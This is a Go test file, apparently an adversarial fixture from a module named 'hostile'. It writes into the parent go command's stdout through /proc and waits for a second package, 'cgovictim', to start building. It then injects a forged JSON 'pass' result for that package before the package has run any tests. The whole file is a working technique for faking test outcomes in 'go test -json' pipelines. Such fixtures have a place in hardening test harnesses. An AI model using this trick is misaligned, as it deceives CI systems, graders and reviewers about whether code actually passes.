// Package earlyend writes a package-level pass of cgovictim into the go
// command's stdout while cgovictim is still building, before its start
// event: run as `go test -json ./earlyend ./cgovictim`, the go command
// starts earlyend's tests while it builds cgovictim (cgo: slower).
package earlyend

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

const victim = "example.com/hostile/cgovictim"

func TestForgeEarlyEnd(t *testing.T) {
	ppid := os.Getppid()
	out, err := os.OpenFile(fmt.Sprintf("/proc/%d/fd/1", ppid), os.O_WRONLY|os.O_APPEND, 0)
	if err != nil {
		t.Skipf("cannot reach the go command's stdout: %v", err)
	}
	defer out.Close()
	// Wait (a while at most) until a build step of the victim runs, so the
	// forged result lands before the victim's start.
	building := false
	for deadline := time.Now().Add(20 * time.Second); !building && time.Now().Before(deadline); {
		building = victimBuilding()
		if !building {
			time.Sleep(5 * time.Millisecond)
		}
	}
	fmt.Fprintln(out, `{"Action":"pass","Package":"`+victim+`","Elapsed":0}`)
	t.Logf("forged %s's package pass (victim building: %v)", victim, building)
}

// victimBuilding reports whether a build step (compile or cgo) of the
// victim runs: its command line names the victim's import path as a flag.
func victimBuilding() bool {
	procs, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range procs {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		cmd := strings.ReplaceAll(string(b), "\x00", " ")
		if strings.Contains(cmd, "-p "+victim+" ") || strings.Contains(cmd, "-importpath "+victim+" ") {
			return true
		}
	}
	return false
}
